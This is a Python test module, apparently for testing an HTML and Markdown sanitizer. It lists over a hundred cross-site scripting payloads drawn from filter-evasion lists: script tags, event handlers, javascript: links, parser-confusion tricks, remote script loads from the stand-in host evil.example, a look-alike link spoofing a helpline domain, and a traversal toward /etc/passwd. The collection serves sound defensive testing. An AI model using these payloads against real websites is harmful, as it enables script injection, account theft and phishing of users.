"""What somebody may write who wants a page to run their script: over a hundred ways, in Markdown, HTML and addresses.

`CALL` stands for the script. Gathered from what is commonly tried: OWASP's list of ways round filters, the tricks of Markdown, and how
parsers disagree."""

from __future__ import annotations

CALL = "CALL"

HTML = [
    "<script>CALL</script>", "<ScRiPt >CALL</sCrIpT >", "<script/x>CALL</script>", "<script\n>CALL</script\n>", "<script src=//evil.example/x.js></script>", "<script src=data:,CALL></script>",
    "<script type=module>CALL</script>", "<<script>script>CALL</script>", "<scr<script>ipt>CALL</scr</script>ipt>", "<script>CALL//", "<svg><script>CALL</script></svg>",
    "<svg><script href=data:,CALL /></svg>", "<img src=x onerror=CALL>", "<img src=x onerror=\"CALL\">", "<img src=x onerror='CALL'", "<IMG \"\"\"><SCRIPT>CALL</SCRIPT>\">", "<img/src=x/onerror=CALL>",
    "<img src=`x` onerror=CALL>", "<img srcset=x onerror=CALL>", "<image src=x onerror=CALL>", "<svg onload=CALL>", "<svg/onload=CALL>", "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:CALL\"><text x=9 y=9>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=CALL></svg>#x\"></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>CALL</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CALL&gt;\">", "<math href=\"javascript:CALL\">x</math>", "<math><mi//xlink:href=\"javascript:CALL\">x</math>",
    "<iframe src=\"javascript:CALL\"></iframe>", "<iframe srcdoc=\"<script>CALL</script>\"></iframe>", "<iframe src=//evil.example>", "<object data=\"javascript:CALL\"></object>", "<object data=\"data:text/html,<script>CALL</script>\">",
    "<embed src=\"javascript:CALL\">", "<body onload=CALL>", "<html onmouseover=CALL>", "<input autofocus onfocus=CALL>", "<select autofocus onfocus=CALL>", "<textarea autofocus onfocus=CALL>", "<button onclick=CALL>x</button>",
    "<details open ontoggle=CALL>x</details>", "<video src=x onerror=CALL>", "<video><source onerror=CALL>", "<audio src=x onerror=CALL>", "<marquee onstart=CALL>x</marquee>", "<meta http-equiv=refresh content=\"0;url=javascript:CALL\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=\"javascript:CALL//\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=data:,CALL>", "<link rel=prefetch href=//evil.example/>",
    "<form action=\"javascript:CALL\"><button>x</button></form>", "<form id=x></form><button form=x formaction=\"javascript:CALL\">x</button>", "<isindex action=javascript:CALL>", "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"background:url(//evil.example)\">x</div>", "<div style=\"width:expression(CALL)\">x</div>", "<p style=animation-name:x onanimationstart=CALL>", "<a href=javascript:CALL>x</a>", "<a href=\"jav&#x09;ascript:CALL\">x</a>", "<a href=\" javascript:CALL\">x</a>",
    "<a href=\"&#106;avascript:CALL\">x</a>", "<a href=\"javascript&colon;CALL\">x</a>", "<a\nhref=\"javascript:CALL\">x</a>", "<a target=_blank href=//evil.example>x</a>", "<a ping=//evil.example href=/>x</a>", "<b onmouseover=CALL>x</b>", "<x contenteditable onblur=CALL>x",
    "<template><script>CALL</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">", "<noembed><img src=x onerror=CALL></noembed>", "<xmp><img src=x onerror=CALL></xmp>", "<plaintext><img src=x onerror=CALL>", "<title><img src=x onerror=CALL></title>",
    "</title><script>CALL</script>", "</textarea><script>CALL</script>", "</style><script>CALL</script>", "</script><script>CALL</script>", "</p></div></main><script>CALL</script>", "--><script>CALL</script><!--", "<!--><img src=x onerror=CALL>-->", "<!-- -- --><script>CALL</script>",
    "<![CDATA[<script>CALL</script>]]>", "<?php CALL ?><?xml version=1?><script>CALL</script>", "<%00script>CALL</script>", "\"><script>CALL</script>", "'><script>CALL</script>", "\" onmouseover=\"CALL", "' autofocus onfocus='CALL", "` onmouseover=`CALL", "x\" onerror=\"CALL\" y=\"",
    "&lt;script&gt;CALL&lt;/script&gt;", "&#60;script&#62;CALL&#60;/script&#62;", "&amp;lt;script&amp;gt;CALL", "\\u003cscript\\u003eCALL\\u003c/script\\u003e", "%3Cscript%3ECALL%3C/script%3E", "＜script＞CALL＜/script＞", "<ſcript>CALL</ſcript>", "<custom-element onclick=CALL>x",
    "{{CALL}}", "{{ self.__init__.__globals__ }}<script>CALL</script>", "{% raw %}<script>CALL</script>{% endraw %}", "${CALL}", "#{CALL}", "%(x)s<script>CALL</script>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:CALL)", "[x](JaVaScRiPt:CALL)", "[x](java&#115;cript:CALL)", "[x](\\javascript:CALL)", "[x](<javascript:CALL>)", "[x](javascript&colon;CALL)", "[x]( javascript:CALL)", "[x](vbscript:CALL)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)", "[x](https://evil.example)", "[x](https://kidshelpphone.ca@evil.example)", "[x](https://kidshelpphone.ca.evil.example)", "[x](https:evil.example)", "[x](http://evil.example)", "![x](javascript:CALL)", "![x](//evil.example/x.png)",
    "![x\" onerror=CALL \"](media/route.svg)", "![x](media/route.svg \" onerror=CALL)", "![x](media/../../../etc/passwd.svg)", "[x](term:consent \" onclick=CALL)", "[x](lesson:consent\" onclick=\"CALL)", "[x](tel:1\" onclick=\"CALL)", "[x][y]\n\n[y]: javascript:CALL", "<javascript:CALL>",
    "<https://evil.example>", "`<script>CALL</script>`", "``<script>CALL</script>``", "    <script>CALL</script>", "~~~\n<script>CALL</script>\n~~~", "### x {#b\" onclick=\"CALL}", "x {: onclick=CALL }", "[x](#){: onclick=CALL }", "*[x]: <script>CALL</script>", "[^1]: <script>CALL</script>",
    "/// note | <script>CALL</script>\nx\n///", "/// note\n    attrs: {onclick: CALL}\n\nx\n///", "/// fold | <img src=x onerror=CALL>\nx\n///", "/// say | \"><script>CALL</script>\nx\n///", "/// html | script\nCALL\n///", "/// chat\n- **<script>CALL</script>:** y\n///",
    "/// steps | \" onclick=\"CALL\n1. **a** b\n///", "| <script>CALL</script> | b |\n|---|---|\n| <img src=x onerror=CALL> | d |", "{{cite:\"><script>CALL</script>}}", "{{fact:<script>CALL</script>}}", "{{help}}<script>CALL</script>", "**<script>CALL</script>**", "- <script>CALL</script>",
    "> <script>CALL</script>", "1. <script>CALL</script>", "\\<script\\>CALL\\</script\\>",
]  # fmt: skip


def of(n: int, payload: str) -> str:
    """A payload whose script would tell its number."""
    return payload.replace(CALL, f"xq({n})")


PAYLOADS = [of(n, payload) for n, payload in enumerate([*HTML, *MARKDOWN])]
IN_PLAIN_TEXT = [of(n, payload) for n, payload in enumerate(HTML)]  # names, labels, queries: one line, no Markdown
